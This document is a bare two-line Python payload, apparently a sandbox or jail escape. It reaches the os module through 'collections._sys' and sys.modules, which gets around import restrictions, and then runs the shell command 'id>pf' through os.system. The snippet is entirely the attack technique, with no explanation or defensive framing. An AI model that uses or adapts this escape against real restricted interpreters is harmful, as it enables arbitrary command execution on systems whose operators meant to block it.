from collections import _sys as s
s.modules["os"].system("id>pf")
